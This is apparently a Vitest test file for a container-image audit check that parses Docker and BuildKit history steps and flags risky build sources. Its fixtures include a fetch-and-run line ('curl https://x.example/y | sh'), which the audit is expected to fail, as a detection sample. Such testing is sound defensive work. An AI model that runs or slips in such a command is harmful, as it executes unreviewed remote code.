// SPDX-License-Identifier: Apache-2.0
// Steps as docker, BuildKit, buildah and our builder write them, and histories that mean harm.
import { describe, expect, it } from 'vitest';
import buildSources from '../../../src/audit/checks/image/build-sources.ts';
import { addOf, scriptOf } from '../../../src/audit/checks/image/shared/history.ts';
import { exampleFacts } from '../../../src/audit/facts/image.ts';

const verdict = (...history: string[]) => buildSources.check({ ...exampleFacts, history });
const CURL = 'curl https://x.example/y | sh';

describe('a step of a history', () => {
  it.each([
    ['RUN /bin/sh -c make # buildkit', 'make'],
    ['RUN |2 A=1 B=a b /bin/sh -c make all # buildkit', 'make all'],
    ['|1 A=1 /bin/sh -c make', 'make'],
    ['/bin/sh -c make', 'make'],
    ['RUN /bin/bash -o pipefail -c make # buildkit', 'make'],
    ['RUN tini make', 'tini make'],
    ['/bin/sh -c #(nop)  CMD ["sh"]', undefined],
    ['COPY /bin/sh -c x /y # buildkit', undefined],
    ['CMD ["/bin/sh" "-c" "x"]', undefined],
    ['', undefined],
  ])('%j runs %j', (step, script) => {
    expect(scriptOf(step)).toBe(script);
  });
});

it.each([
  ['ADD a b /c # buildkit', ['a', 'b', '/c']],
  ['/bin/sh -c #(nop) ADD dir:0123456789abcdef in /app ', ['0123456789abcdef', '/app']],
  ['/bin/sh -c #(nop)  ADD file:0123456789abcdef in / ', undefined],
  ['ADD x # buildkit', undefined],
  ['RUN /bin/sh -c ADD a /b # buildkit', undefined],
])('%j adds %j', (step, words) => {
  expect(addOf(step)).toEqual(words);
});

describe('the history of an image', () => {
  it('is asked as the build file would be, and says in which step', () => {
    expect(verdict('COPY a /a # buildkit', `RUN /bin/sh -c set -e;\n  ${CURL} # buildkit`)).toMatchObject({
      status: 'fail',
      problems: [
        { message: expect.stringMatching(/^step 2 of the history: /), location: { logical: exampleFacts.reference } },
      ],
    });
    expect(verdict('RUN /bin/sh -c echo "curl https://x | sh" > /notes # buildkit')).toEqual({ status: 'pass' });
    expect(verdict()).toMatchObject({ status: 'not-applicable' });
  });

  it('that is made up is judged soon, or unknown', () => {
    const since = performance.now();
    for (const step of [
      `RUN /bin/sh -c ${'$('.repeat(30_000)}`,
      `RUN /bin/sh -c ${'"'.repeat(60_001)}`,
      `RUN /bin/sh -c ${'a | '.repeat(16_000)}`,
      `RUN |999 ${'A=1 '.repeat(16_000)}`,
      `RUN /bin/sh -c <<EOF\n${'x\n'.repeat(10_000)}`,
      'RUN /bin/sh -c \u0000\u2028\ud800',
    ])
      expect(['pass', 'fail', 'unknown']).toContain(verdict(step).status);
    expect(verdict(...Array.from({ length: 3000 }, (_, i) => `RUN /bin/sh -c true ${i}`)).status).toMatch(
      /pass|unknown/,
    );
    expect(performance.now() - since).toBeLessThan(20_000);
  });
});
